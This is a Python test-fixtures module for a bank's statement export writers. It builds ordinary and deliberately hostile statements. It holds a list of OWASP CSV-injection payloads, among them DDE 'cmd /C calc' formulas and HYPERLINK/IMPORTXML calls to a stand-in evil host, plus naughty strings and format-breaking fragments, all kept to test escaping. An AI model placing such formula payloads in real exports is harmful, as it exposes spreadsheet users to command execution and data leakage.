"""Statements of every kind: an ordinary one, an empty one, and one whose every text is hostile."""

import json
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from teller.bank.money import Currency, Money
from teller.bank.papers.formats import writer
from teller.bank.papers.statement import PaperLine, StatementPaper, written

KINDS = ("deposit", "transfer", "withdrawal", "transfer", "reversal", "salary", "interest", "fee", "rent")
# OWASP "CSV Injection": what a spreadsheet may take for a formula, with and without something before it.
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    '=HYPERLINK("http://evil.example","click")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1', '";=1+1', "',=1+1", "=1+1;", "=1+1,=2+2", '=IMPORTXML(CONCAT("http://evil.example"),"//a")', "+49 30 1234",
    "-5.00", "=A1", "==1", "=-1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "=1+1\r\n=2+2", "%0A=1+1",
)  # fmt: skip


def naughty() -> list[str]:
    """Minimaxir's Big List of Naughty Strings, and what no input of ours lets in: controls and half characters."""
    listed = json.loads((Path(__file__).parents[2] / "data" / "blns.json").read_text(encoding="utf-8"))
    return [
        *listed,
        *FORMULAS,
        "\ud800 half",
        "\x00\x01\x1b[31m",
        "\u202egnirts",
        "</STMTTRN><OFX>",
        "]]>",
        "\ufffe\uffff",
        "x" * 900,
    ]


def paper_of(lines, **changed) -> StatementPaper:
    made = StatementPaper(
        bank="Northgate",
        practice=False,
        currency=Currency("EUR", 2),
        account="4021773306",
        account_kind="current",
        account_name="Everyday",
        customer="Amara Okafor",
        customer_number="10000018",
        first_day=date(2026, 11, 1),
        last_day=date(2026, 11, 30),
        opening=Money(10_00),
        closing=lines[-1].balance if lines else Money(10_00),
        count=len(lines),
        day=date(2026, 11, 24),
        made_at=datetime(2026, 11, 24, 10, 31, 5, 123456, tzinfo=UTC),
        made_by="Tom Reed",
    )
    return replace(made, **changed)


def lines_of(memos) -> list[PaperLine]:
    """A line for each memo, on four days, now in, now out; each balance follows from the one before."""
    made, balance = [], 10_00
    for at, memo in enumerate(memos):
        amount = (-1) ** at * (5_00 + at)
        balance += amount
        made.append(
            PaperLine(
                day=date(2026, 11, 2 + 4 * at // len(memos)),
                at=datetime(2026, 11, 2 + 4 * at // len(memos), 9, at % 60, tzinfo=UTC),
                kind=KINDS[at % len(KINDS)],
                memo=memo,
                other="4021774119" if KINDS[at % len(KINDS)] == "transfer" else None,
                reference=f"0F3K7-Q2M9-{at:04d}",
                amount=Money(amount),
                balance=Money(balance),
                reverses="0F3K7-Q2M9-0000" if KINDS[at % len(KINDS)] == "reversal" else None,
                reversed_by=None,
            )
        )
    return made


@pytest.fixture
def lines():
    return lines_of(["Zoë's rent", "", "a, b; c", 'say "hi"', "漢字", "wages & tips", "<b>", "fee", "flat 3"])


@pytest.fixture
def hostile():
    return lines_of(naughty())


@pytest.fixture
def hostile_paper(hostile):
    return paper_of(
        hostile,
        bank="=North & <gate>",
        account_name="@Every\nday",
        customer='-Amara "O" \ud83d',
        made_by="+Tom <Reed>",
        practice=True,
    )


def text_of(form, paper, lines) -> str:
    return "".join(written(writer(form, paper), lines))
